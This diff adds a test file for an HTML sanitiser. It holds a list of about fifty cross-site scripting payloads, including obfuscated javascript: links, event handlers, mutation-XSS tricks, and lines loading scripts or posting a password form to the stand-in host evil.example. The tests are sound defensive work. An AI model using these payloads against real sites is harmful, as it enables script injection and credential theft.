@@ -1,0 +1,150 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { sanitise } from './html.ts';
+
+const ALLOWED = /^<\/?(p|br|strong|b|em|i|u|ul|ol|li|h3|h4|blockquote|a|table|thead|tbody|tr|th|td)[ >/]/;
+
+/** Tags of clean HTML. Text in it has its `<` escaped, values their `<`, `>` and quotes. */
+const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? [];
+
+function expectHarmless(html: string): void {
+  for (const tag of tagsOf(html)) {
+    expect(tag).toMatch(ALLOWED);
+    expect(tag).toMatch(/>$/);
+    for (const [, name, value = ''] of tag.matchAll(/\s([^\s=>]+)="([^"]*)"/g)) {
+      expect(['href', 'rel']).toContain(name);
+      if (name === 'href') expect(value).toMatch(/^(https:|mailto:|tel:|(?![/\\]{2})[^:]*$)/i);
+    }
+    expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(/\son\w+|style|src/i);
+  }
+}
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<p onclick="alert(1)">text</p>',
+  '<p/onmouseover=alert(1)>text',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="http://evil.example">x</a>',
+  '<a href="https://ok.example" target="_blank" onclick="x()">x</a>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<style>@import "//evil.example";</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<form action="//evil.example"><input name=password><button>Go</button></form>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><p>x',
+  '"><img src=x onerror=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<p id="__proto__" class="x" name="body">x</p>',
+  '<video><source onerror=alert(1)></video>',
+  '<details open ontoggle=alert(1)>',
+  '<b <script>alert(1)</script>',
+  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
+  '<a href="https://a.example&quot; onclick=&quot;alert(1)">x</a>',
+];
+
+describe('hostile HTML', () => {
+  it.each(ATTACKS)('can do nothing: %s', (attack) => {
+    expectHarmless(sanitise(attack));
+    expect(sanitise(attack)).not.toMatch(/<script|<img|<svg|<iframe|<style|<form|<input/i);
+  });
+
+  it('can do nothing in any mixture, nested and unclosed', () => {
+    const pieces = fc.oneof(
+      fc.constantFrom(...ATTACKS),
+      fc.constantFrom(
+        '<',
+        '>',
+        '"',
+        "'",
+        '/',
+        '<!--',
+        '-->',
+        '<p ',
+        ' onclick=',
+        'href=',
+        '<a ',
+        '\u0000',
+        '&#x3c;',
+      ),
+      fc.string({ maxLength: 5 }),
+    );
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
+        const clean = sanitise(parts.join(''));
+        expectHarmless(clean);
+        expect(clean).not.toMatch(/<script/i);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('that is clean already stays as it is', () => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...ATTACKS), { maxLength: 4 }), (parts) => {
+        const clean = sanitise(parts.join(''));
+        expect(sanitise(clean)).toBe(clean);
+      }),
+    );
+  });
+});
+
+describe('honest HTML', () => {
+  it('keeps its marks, lists and tables', () => {
+    const text =
+      '<h3>Terms</h3><p>I <strong>agree</strong> to <em>this</em>.</p><ul><li>one</li></ul><table><tbody><tr><td>x</td></tr></tbody></table>';
+    expect(sanitise(text)).toBe(text);
+  });
+
+  it('keeps its text, whatever stands around it', () => {
+    expect(sanitise('<div><font color="red">Your <span>data</span></font></div>')).toBe('Your data');
+    expect(sanitise('5 < 6 & "quotes"')).toBe('5 &lt; 6 &amp; "quotes"');
+  });
+
+  it('makes headings fit below those of the page', () => {
+    expect(sanitise('<h1>A</h1><h2>B</h2>')).toBe('<h3>A</h3><h3>B</h3>');
+  });
+
+  it('keeps links to safe places, which learn nothing of where they stood', () => {
+    expect(sanitise('<a href="https://example.com/x?a=1">x</a>')).toBe(
+      '<a href="https://example.com/x?a=1" rel="noopener noreferrer">x</a>',
+    );
+    expect(sanitise('<a href="mailto:a@example.com" rel="opener">x</a>')).toContain(
+      'rel="noopener noreferrer"',
+    );
+  });
+
+  it('is the same the second time, from memory', () => {
+    const text = '<p>once <script>x</script>only</p>';
+    expect(sanitise(text)).toBe(sanitise(text));
+    expect(sanitise('')).toBe('');
+  });
+});
